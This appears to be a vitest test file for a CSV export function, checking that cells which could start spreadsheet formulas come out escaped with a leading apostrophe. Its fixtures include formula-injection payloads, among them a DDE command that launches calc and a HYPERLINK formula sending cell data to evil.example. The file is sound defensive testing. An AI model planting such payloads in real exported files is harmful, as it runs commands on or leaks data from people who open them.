import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csv } from "./csv.ts";

/** Reads a table as RFC 4180 defines it. */
function parse(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  for (let at = 0; at < text.length; at += 1) {
    if (text[at] === '"') {
      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
        if (text[at] === '"') at += 1;
        cell += text[at];
      }
    } else if (text[at] === "," || text.startsWith("\r\n", at)) {
      row.push(cell);
      cell = "";
      if (text[at] === ",") continue;
      rows.push(row);
      row = [];
      at += 1;
    } else cell += text[at];
  }
  return rows;
}

describe("a table", () => {
  it.each([
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1)',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\uff1d1",
    "\0=1",
    "|calc",
  ])("makes a text of %j", (cell) => {
    expect(parse(csv([[cell]]))[0]?.[0]).toBe(`'${cell.replaceAll("\0", "")}`);
  });

  it("keeps numbers, dates and what is empty", () => {
    expect(csv([[-5, 1.5, 10n, true, null, undefined, "", new Date(0)]])).toBe(
      "-5,1.5,10,true,,,,1970-01-01T00:00:00.000Z\r\n",
    );
    expect(() => csv([[NaN]])).toThrow(TypeError);
    expect(() => csv([[new Date("x")]])).toThrow(RangeError);
  });

  it("keeps every cell in its column, whatever is in it", () => {
    const cell = fc.string({ unit: "binary", maxLength: 12 }).map((text) => text.replaceAll("\0", ""));
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell, cell), { minLength: 1, maxLength: 5 }), (rows) => {
        const read = parse(csv(rows));
        expect(read.map((row) => row.length)).toEqual(rows.map(() => 3));
        for (const [at, row] of rows.entries())
          for (const [column, text] of row.entries()) expect([text, `'${text}`]).toContain(read[at]?.[column]);
        for (const found of read.flat()) expect(found).not.toMatch(/^[=+\-@\t\r]/u);
      }),
    );
  });

  it("has rows of one length", () => {
    expect(() => csv([["a", "b"], ["c"]])).toThrow(/as many cells/u);
  });
});
